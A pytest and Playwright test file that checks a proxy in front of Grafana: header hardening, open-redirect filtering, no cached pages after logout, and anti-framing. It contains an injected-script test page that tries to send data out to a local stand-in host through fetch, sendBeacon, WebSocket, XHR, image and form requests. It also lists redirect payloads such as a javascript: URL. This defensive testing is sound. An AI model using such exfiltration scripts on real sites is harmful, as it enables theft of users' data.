"""What a page of this origin may load, whom it may send anything, what of it a browser keeps: in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.attacks.engineers import PROBE, Client, World, world
from tests.conftest import Services
from tests.running_proxy import COOKIE, EchoServer, Proxy, echoing, running
from voice_lab import browser

pytestmark = [pytest.mark.services, pytest.mark.database]

PAGE = "/grafana/d/vp-1/-"
FILE = "/grafana/public/build/app.4f2a.js"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A real browser, without a screen, which keeps pages as people's do."""
    with browser.chromium(remembers=True) as program:
        yield program


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    """A browser that nobody has used."""
    with closing(chromium.new_context()) as made:  # type: ignore[type-var]
        yield made


@pytest.fixture
def grafana() -> Iterator[EchoServer]:
    """A Grafana that says what a test has it say."""
    with echoing() as server:
        yield server


@pytest.fixture
def outsider() -> Iterator[EchoServer]:
    """Somebody who waits for what a page sends."""
    with echoing() as server:
        yield server


@pytest.fixture
def proxy(tmp_path: Path, grafana: EchoServer) -> Iterator[Proxy]:
    """The proxy, where a browser finds it."""
    with (
        echoing() as portal,
        running(tmp_path, portal.server_port, grafana.server_port, portal__url="http://127.0.0.1:{port}") as made,
    ):
        made.browser.headers["Host"] = f"127.0.0.1:{made.port}"
        yield made


WEAK = {
    "Content-Security-Policy": "default-src *",
    "X-Frame-Options": "ALLOWALL",
    "Cache-Control": "public, max-age=31536000",
    "Expires": "Thu, 31 Dec 2099 23:59:59 GMT",
    "Set-Cookie": "grafana_session=1; Path=/grafana",
    "Access-Control-Allow-Origin": "*",
    "Referrer-Policy": "unsafe-url",
    "X-Content-Type-Options": "none",
}


@pytest.mark.parametrize("path", [PAGE, "/grafana/api/dashboards/uid/vp-1"])
@pytest.mark.parametrize("status", [200, 404, 500])
def test_grafana_cannot_weaken_what_is_said_of_its_answers(
    proxy: Proxy, grafana: EchoServer, path: str, status: int
) -> None:
    grafana.says, grafana.status = WEAK, status
    answer = proxy.browser.get(path, headers=COOKIE)
    assert answer.status_code == status
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers.get_list("content-security-policy") == [answer.headers["content-security-policy"]]
    assert "*" not in answer.headers["content-security-policy"]
    assert not {"set-cookie", "expires", "access-control-allow-origin", "x-jwt-assertion"} & set(answer.headers)


@pytest.mark.parametrize(
    ("said", "status", "kept"),
    [
        ("public, max-age=31536000, immutable", 200, "public, max-age=31536000, immutable"),
        ("public, max-age=3600", 200, "public, max-age=3600"),
        ("public, max-age=3600", 404, "no-store"),
        ("no-cache", 200, "no-store"),
        ("public", 200, "no-store"),
    ],
)
def test_only_a_file_that_is_there_is_kept(
    proxy: Proxy, grafana: EchoServer, said: str, status: int, kept: str
) -> None:
    grafana.says, grafana.status = {"Cache-Control": said}, status
    assert proxy.browser.get(FILE, headers=COOKIE).headers["cache-control"] == kept


@pytest.mark.parametrize(
    ("said", "led"),
    [
        ("https://example.org/", "/"),
        ("//example.org/grafana/", "/"),
        ("http://127.0.0.1.example.org/grafana/", "/"),
        ("javascript:alert(1)", "/"),
        ("/logout/", "/"),
        ("/grafana/d/vp-2/-", "/grafana/d/vp-2/-"),
        ("http://127.0.0.1:{port}/grafana/d/vp-2/-", "/grafana/d/vp-2/-"),
    ],
)
def test_grafana_leads_nobody_elsewhere(proxy: Proxy, grafana: EchoServer, said: str, led: str) -> None:
    grafana.says, grafana.status = {"Location": said.format(port=proxy.port)}, 302
    answer = proxy.browser.get(FILE, headers=COOKIE)
    assert (answer.status_code, answer.headers["location"]) == (302, led)


@pytest.mark.parametrize("path", ["/grafana/x", "/%00", "/grafana/d/vp-1/-", "/", "/grafana/api/ds/query"])
def test_an_answer_of_nginxs_own_loads_nothing(tmp_path: Path, path: str) -> None:
    """Also where nobody stands behind it."""
    with running(tmp_path, 1, 1) as proxy:
        answer = proxy.ask(path.encode(), b"POST" if "query" in path else b"GET", **COOKIE)
    assert answer.status in {400, 403, 500, 502}
    assert answer.headers["content-security-policy"].startswith("default-src 'none'; ")
    for name in ("content-security-policy", "cache-control", "x-frame-options", "x-content-type-options"):
        assert [key.lower() for key, _ in answer.every].count(name) == 1
    assert answer.headers["cache-control"] == "no-store"


SENDING = """<!doctype html><title>a page of Grafana's that somebody got into</title>
<base href="{there}/">
<link rel="stylesheet" href="{there}/style.css"><link rel="icon" href="{there}/icon.png">
<style>@font-face {{ font-family: x; src: url({there}/font.woff) }}</style>
<style>body {{ font-family: x; background: url({there}/back.png) }}</style>
<img src="{there}/picture.png"><script src="{there}/script.js"></script><iframe src="{there}/frame"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed"><video src="{there}/video.mp4"></video>
<form id="form" action="{there}/form" method="post"><input name="calls" value="of a client"></form>
<script>
const quietly = (what) => {{ try {{ what() }} catch (error) {{ document.title = String(error) }} }};
quietly(() => fetch("{there}/fetch", {{ method: "POST", mode: "no-cors", body: "calls" }}).catch(() => 0));
quietly(() => navigator.sendBeacon("{there}/beacon", "calls"));
quietly(() => new WebSocket("{there}/socket".replace("http", "ws")));
quietly(() => new EventSource("{there}/events"));
quietly(() => {{ const asked = new XMLHttpRequest(); asked.open("POST", "{there}/xhr"); asked.send("calls") }});
quietly(() => new Worker("{there}/worker.js"));
quietly(() => {{ new Image().src = "{there}/image.png?calls" }});
quietly(() => import("{there}/module.js").catch(() => 0));
document.documentElement.dataset.ran = "yes";
</script>"""


def test_a_page_of_grafanas_that_somebody_got_a_script_into_sends_nothing_away(
    proxy: Proxy, grafana: EchoServer, outsider: EchoServer, context: BrowserContext
) -> None:
    grafana.body = SENDING.format(there=f"http://127.0.0.1:{outsider.server_port}").encode()
    grafana.says = {"Content-Type": "text/html"}  # as Grafana comes, it has no policy of its own
    context.add_cookies([{"name": "voice_portal_session", "value": "1", "url": f"http://127.0.0.1:{proxy.port}"}])
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{proxy.port}{PAGE}", wait_until="domcontentloaded")
    assert page.locator("html").get_attribute("data-ran") == "yes", "Grafana's own page begins with a script in it"
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(500)
    assert outsider.heard == []


@pytest.fixture(scope="module")
def engineers(services: Services) -> Iterator[World]:
    """Clients and their engineers at the real portal."""
    with world(services.up("portal")) as made:
        yield made


@pytest.fixture
def own(engineers: World) -> Client:
    """A client of this test's own."""
    return engineers.client()


@pytest.fixture
def page(engineers: World, own: Client, context: BrowserContext) -> Page:
    """The page of an engineer who is signed in, in a real browser."""
    session = [{"name": name, "value": value} for name, value in engineers.signed_in(own).cookies.items()]
    context.add_cookies([{**cookie, "url": engineers.lab.portal_url} for cookie in session])  # type: ignore[list-item]
    return context.new_page()


def shown_of(client: Client) -> str:
    """What stands on each of the client's pages, and in no address."""
    return f" of {client.name}"


def gone_back(page: Page) -> str:
    """What stands there after the button "back"."""
    page.evaluate("setTimeout(() => history.back())")
    page.wait_for_timeout(1000)  # a page that comes out of the memory tells nobody that it is loaded
    return str(page.evaluate("document.documentElement.outerHTML"))


@pytest.mark.parametrize(
    "path",
    ["/c/{client}/", "/c/{client}/probes/{probe}/", "/c/{client}/calls/{call}/",
     "/grafana/d/{dashboard}/-"],
)  # fmt: skip
def test_a_page_does_not_come_back_after_signing_out(engineers: World, own: Client, page: Page, path: str) -> None:
    url = engineers.lab.portal_url
    probe = f"{PROBE}-{own.name}"
    address = url + path.format(client=own.name, probe=probe, call=own.call, dashboard=own.dashboard)
    page.goto(address)
    assert shown_of(own) in page.content()
    if "/grafana/" in path:
        page.goto(f"{url}/login/")  # who is signed in is led on, to a page with the button
    page.get_by_role("banner").get_by_role("button", name="Log out").click()
    page.wait_for_url("**/login/**")
    for _ in range(2 if "/grafana/" in path else 1):
        assert shown_of(own) not in gone_back(page)
    page.goto(address)
    assert shown_of(own) not in page.content()


def test_a_page_that_may_be_kept_does_come_back(grafana: EchoServer, context: BrowserContext) -> None:
    """Else the browser here would keep none, and the test above would show nothing."""
    there = f"http://127.0.0.1:{grafana.server_port}"
    grafana.body, grafana.says = b"<h1>the calls of a client</h1>", {"Content-Type": "text/html"}
    page = context.new_page()
    page.goto(f"{there}/page")
    grafana.body = b"<h1>signed out</h1>"
    page.goto(f"{there}/login")
    assert "the calls of a client" in gone_back(page)


def test_no_page_of_the_portal_breaks_its_own_policy(engineers: World, own: Client, page: Page) -> None:
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    home = f"/c/{own.name}/"
    probe = f"{home}probes/{PROBE}-{own.name}/"
    for path in (
        "/c/",
        home,
        f"{home}wall/",
        f"{home}trends/",
        probe,
        f"{probe}calls/{own.call}/",
        "/logout/",
        f"/grafana/d/{own.dashboard}/-?kiosk",
    ):
        page.goto(engineers.lab.portal_url + path, wait_until="networkidle")
    assert [text for text in said if "Content Security Policy" in text] == []


def test_nobody_else_puts_a_page_into_theirs(
    engineers: World, own: Client, page: Page, outsider: EchoServer, context: BrowserContext
) -> None:
    frames = "".join(
        f'<iframe src="{engineers.lab.portal_url}{path}"></iframe>' for path in ("/", f"/grafana/d/{own.dashboard}/-")
    )
    outsider.body, outsider.says = frames.encode(), {"Content-Type": "text/html"}
    page.goto(f"http://127.0.0.1:{outsider.server_port}/", wait_until="networkidle")
    assert len(page.frames) == 3
    assert [own.name in frame.content() for frame in page.frames[1:]] == [False, False]
